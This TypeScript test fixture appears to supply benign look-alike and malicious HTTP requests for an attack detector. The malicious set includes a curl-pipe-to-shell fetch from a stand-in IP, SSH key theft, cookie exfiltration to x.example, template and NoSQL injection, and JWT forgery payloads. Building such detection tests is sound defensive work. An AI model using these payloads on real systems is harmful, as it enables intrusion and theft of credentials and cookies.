import type { Named } from './index.ts';

const post = (path: string, type: string, body: string) =>
  `POST ${path} HTTP/1.1\nHost: app.example\nContent-Type: ${type}\n\n${body}`;
const json = (path: string, document: unknown) => post(path, 'application/json', JSON.stringify(document));
const form = (path: string, fields: Readonly<Record<string, string>>) =>
  post(path, 'application/x-www-form-urlencoded', new URLSearchParams(fields).toString());
const plain = (path: string, text: string) => post(path, 'text/plain', text);
const get = (path: string, fields: Readonly<Record<string, string>>) =>
  `GET ${path}?${new URLSearchParams(fields)} HTTP/1.1\nHost: app.example\n\n`;
const token = (head: unknown) =>
  `${Buffer.from(JSON.stringify(head)).toString('base64url')}.${Buffer.from('{"sub":"1"}').toString('base64url')}`;
const withToken = (head: unknown, signature: string) =>
  `GET /me HTTP/1.1\nHost: app.example\nAuthorization: Bearer ${token(head)}.${signature}\n\n`;
const php = (code: string) => `<${'?'}php ${code} ?>`;
const fetched = 'curl -s http://203.0.113.6/a | sh';
const calls = (count: number) =>
  `<?xml version="1.0"?><methodCall><methodName>system.multicall</methodName><params>${'<value><struct><member><name>methodName</name><value><string>wp.getUsersBlogs</string></value></member></struct></value>'.repeat(count)}</params></methodCall>`;
const page = '<section class="hero"><h1>Welcome to our shop</h1><p>Open from nine to five.</p></section>';

/** Requests that look like attacks until they are read where they stand. */
export const CLEAN_HARD_REQUESTS: Named = {
  'a sentence behind a condition': form('/qa', {
    body: "if somebody types ' OR '1'='1 into the login field they get in",
  }),
  'a joke behind a comment': form('/shirts', { name: 'T-shirt "; DROP TABLE shirts;--" (black, XL)' }),
  'a phrase and words behind it': get('/search', { comment: '"/etc/passwd probe" in my log' }),
  'a comment in Hindi': form('/tippani', {
    tippani: 'बहुत अच्छा लेख! लेकिन UNION SELECT में कॉलम की संख्या बराबर क्यों होनी चाहिए? कृपया बताएँ',
  }),
  'a question in Japanese': json('/qa', {
    body: "WHERE name = 'O''Brien' のように二重にすれば良いのでしょうか？「' OR 1=1 --」を入れられたら危険だと先輩に言われました。",
  }),
  'a reading in church': form('/bulletin', { readings: 'Gen 1:1-2:3; Ps 8 or 33; 2 Cor 13:11-13' }),
  'a signature that was drawn': form('/sign', {
    signature: 'data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=',
  }),
  'a fork bomb in a chat': plain(
    '/irc/log',
    '[12:02] <tux> and this fork thing :(){ :|:& };: is it safe?\n[12:03] <ann> no',
  ),
  'a drawing that fades': post(
    '/svg',
    'image/svg+xml',
    '<svg xmlns="http://www.w3.org/2000/svg"><rect><animate attributeName="opacity" from="0" to="1"/></rect></svg>',
  ),
  'a score by its document type': post(
    '/scores',
    'application/xml',
    '<?xml version="1.0"?><!DOCTYPE score-partwise PUBLIC "-//Recordare//DTD MusicXML 4.0 Partwise//EN" "http://www.musicxml.org/dtds/partwise.dtd"><score-partwise/>',
  ),
  'formulas in a post': json('/posts', {
    text: 'Sei $f: \\mathbb{R} \\to \\mathbb{R}$ mit $f($x) < 0$ für $x < 1$. Zeige, dass $f$ stetig ist.',
  }),
  'a job with a pipe': json('/cron', {
    name: 'dump',
    command: '/usr/bin/mysqldump shop | gzip > /backup/shop.sql.gz',
    user: 'root',
  }),
  'a check of a disk': form('/checks', {
    name: 'disk',
    check: "df --local -P | awk '{print $6}'",
    every: '5',
  }),
  'a task of Windows': json('/inventory', {
    services: [{ name: 'Spooler', path: 'C:\\Windows\\System32\\spoolsv.exe' }],
  }),
  'a part of every page': json('/custom-code', {
    footer: '<script>\n  document.querySelectorAll("a").forEach(a => a.classList.add("link"));\n</script>',
  }),
  'a template by its engine': json('/templates', {
    body: `${page}{% for line in order.lines|filter(l => l.qty > 0) %}<li>{{ line.title }}</li>{% endfor %}{{ config.SITE_NAME }}`,
  }),
  'the source of a template': `POST /administrator/index.php?option=com_templates HTTP/1.1\nHost: app.example\n\njform%5Bsource%5D=${encodeURIComponent(`${php("defined('_JEXEC') or die;")}\n<!DOCTYPE html>\n<html lang="${php('echo $this->language;')}">\n<head></head>\n<body>\n</body>\n</html>`)}&8a7b6c5d4e3f2a1b8a7b6c5d4e3f2a1b=1`,
  'a quiz about injections': json('/quizzes/7', {
    question: 'Which input gets past the sign-in?',
    choices: [{ text: "admin' -- " }, { text: '<script>alert(1)</script>' }],
  }),
  'a lesson about markup': json('/lessons/3/check', {
    answer:
      '<button id="b">Click</button>\n<script>\n  document.getElementById("b").hidden = true;\n</script>',
  }),
  'a rule that blocks': json('/rulesets', {
    action: 'block',
    expression:
      '(path contains "../") or (lower(query) contains "<script") or (agent contains "$' + '{jndi:")',
  }),
  'a rule of its own': post(
    '/rules',
    'application/yaml',
    "title: Web shell\ndetection:\n  keywords:\n    - 'cmd.exe /c'\n  condition: keywords\nlevel: high",
  ),
  'a report of an attack': json('/signals', {
    scenario: 'sqli-probing',
    source_ip: '203.0.113.6',
    payload: "/product?id=12' OR '1'='1",
  }),
  'a log in a ticket': form('/tickets', {
    message:
      'My log is full of this, what can I do about it?\n\n203.0.113.7 - - [03/May/2024:02:11:09 +0200] "GET /../../etc/passwd HTTP/1.1" 404 196 "-" "$' +
      '{jndi:ldap://203.0.113.9/a}"\n\nPlease help me.',
  }),
  'a mail in a ticket': form('/tickets', {
    body: 'This came back, please help me, the customer waits.\n\nReturn-Path: <>\nReceived: from mx.example by mail.example\nFrom: a@site.example\nTo: b@site.example\nSubject: Bounce\nContent-Type: text/plain\n',
  }),
  'a mail for an archive': post(
    '/import',
    'message/rfc822',
    'From: ann@site.example\nTo: list@site.example\nSubject: Hello\nContent-Type: text/plain\n\nHello all, the meeting is on Monday.',
  ),
  'notes of a release':
    "Release 2.4.1\n\n- escape `<script>` in titles\n- reject \"../\" in the names of uploads\n- tell why `1' OR '1'='1` does not work any more\n",
  'a page of a wiki': form('/w', {
    wpTextbox1:
      "So an attacker writes <syntaxhighlight lang=\"sql\">SELECT 1 FROM a WHERE b = '' OR '1'='1' --</syntaxhighlight> and sees all rows of it.",
  }),
  'filters of an administrator': json('/orders/find', {
    filter: { $and: [{ mail: { $regex: 'example$' } }, { deleted: { $exists: false } }] },
    sort: { at: -1 },
    limit: 50,
  }),
  'unread messages': 'GET /messages?$limit=25&$sort[at]=-1&read[$ne]=true HTTP/1.1\nHost: app.example\n\n',
  'a schema for a club': plain(
    '/sql',
    "CREATE TABLE member (id INTEGER, name TEXT);\nINSERT INTO member VALUES (1, 'O''Brien');\nALTER TABLE member ADD COLUMN joined DATE;",
  ),
  'two statements for an editor': form('/phpmyadmin/index.php', {
    db: 'shop',
    sql_query: "ALTER TABLE a ADD COLUMN b INT; UPDATE a SET b = 1 WHERE c = '';",
  }),
  'a search for a lookup': get('/search', { query: 'log4j $' + '{jndi} CVE-2021-44228' }),
  'a search for an element': get('/search', { q: '"<script type=module>" vs "<script defer>" in:title' }),
  'what a command means': get('/', { s: 'what does 2>&1 | tee /dev/null mean' }),
  'an example in a repository': 'GET /acme/site/raw/branch/main/.env.example HTTP/1.1\nHost: git.example\n\n',
  'settings for a job': json('/launch', {
    extra_vars: '---\napp: /srv/app\npost_cmd: "cd {{ site }} && ./run | tee /var/log/run.log"\n',
  }),
  'a survey by its answers': json('/logic', { if: "q1 == 'no' && (q2 > 3 || q3 in ['a','b'])" }),
  'cells of a sheet': json('/sheets/1/values', {
    values: [['=HYPERLINK("https://shop.example/o/"&A4,"open")']],
  }),
  'a signed token': withToken({ alg: 'RS256', kid: 'main-2026' }, 'c2lnbmF0dXJl'),
  'two calls in one': post('/xmlrpc.php', 'text/xml', calls(2)),
};

/** Attacks in the same places. */
export const MALICIOUS_HARD_REQUESTS: Named = {
  'a condition at the end of a sentence': form('/qa', { id: "7' OR '1'='1" }),
  'a statement behind a name': form('/shirts', { name: "x'; DROP TABLE shirts;-- " }),
  'a job that brings a program': json('/cron', { name: 'dump', command: fetched, user: 'root' }),
  'a job that reads secrets': json('/cron', {
    name: 'dump',
    command: 'tar cz /root/.ssh/id_rsa | base64',
    user: 'root',
  }),
  'a job that looks about': form('/run', { a: '1', b: '2', cmd: 'cat /etc/passwd' }),
  'a part that takes cookies': json('/custom-code', {
    footer: '<script>\n  new Image().src = "//x.example/?" + document.cookie; // for statistics\n</script>',
  }),
  'a template that runs': json('/templates', {
    body: `${page}{{ a }}{{ b }}{{ ['id']|filter('system') }}{{ c }}`,
  }),
  'a choice that takes': json('/quizzes/7', {
    question: 'Which one is it?',
    choices: [{ text: '<img src=x onerror="fetch(\'//x.example/\'+document.cookie)">' }],
  }),
  'a sign-in by an operator': json('/login', { user: 'a', password: { $ne: null }, filter: { a: 1 } }),
  'a token by its beginning': json('/users', { where: { resetPasswordToken: { $startsWith: 'a7' } } }),
  'a name that is read through':
    'GET /posts?filters[author][password][$startsWith]=a HTTP/1.1\nHost: app.example\n\n',
  'a program behind a title': json('/issues', {
    title: `Build fails on arm"; ${fetched}; echo "`,
    body: 'See the log, the last step does not finish on these machines.',
  }),
  'a document that runs': plain(
    '/thesis',
    '\\documentclass{article}\n\\begin{document}\n\\immediate\\write18{id > a}\n\\end{document}',
  ),
  'a formula in an answer': form('/survey', {
    q3: '=HYPERLINK("http://x.example/?d="&CONCATENATE(A2:H2),"open")',
  }),
  'a score that runs': form('/w', { score: '\\relative c { a4 b }\n#(system "id")' }),
  'PHP between brackets': form('/comments', {
    comment:
      "Thanks for the tip! [insert_php]file_put_contents('l.php','a');[/insert_php] Greetings from here",
  }),
  'orders for a cache': form('/warm', { key: 'menu\r\nSLAVEOF 203.0.113.7 6379\r\n' }),
  'a lookup in a template': json('/launch', { motd: "{{ lookup('pipe','id') }}" }),
  'a style that tells': form('/note', {
    note: "To the rear door.<style>@font-face{font-family:x;src:url('http://x.example/a.php')}</style>",
  }),
  'a list of streams': post(
    '/up',
    'multipart/form-data; boundary=b',
    '--b\nContent-Disposition: form-data; name="f"; filename="a.m3u8"\n\n#EXTM3U\nconcat:http://x.example/h|file:///etc/passwd\n--b--',
  ),
  'arguments in a list of places': json('/jobs', {
    source: ['/srv', '--checkpoint-action=exec=sh a.png'],
    schedule: '0 3 * * *',
  }),
  'markup in base64 with a plus': `/p.gif?d=${Buffer.from('{"t":"~~>>~~</td><script src=https://203.0.113.6/d.js></script>"}').toString('base64')}`,
  'an unsigned token': withToken({ alg: 'nOnE', typ: 'JWT' }, ''),
  'a token with a key of its own': withToken({ alg: 'HS256', kid: '../../../dev/null' }, 'c2lnbmF0dXJl'),
  'many sign-ins in one call': post('/xmlrpc.php', 'text/xml', calls(3)),
  'a header behind other line ends': get('/out', {
    url: 'https://x.example/\u560a\u560dLocation:\u560a\u560d\u563csvg\u563e',
  }),
  'markup that changes when it is read': json('/comments', {
    body: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1&gt;"></table></math>',
  }),
  'settings of a site for everyone':
    'GET /api/index.php/v1/config/application?public=true HTTP/1.1\nHost: app.example\n\n',
};
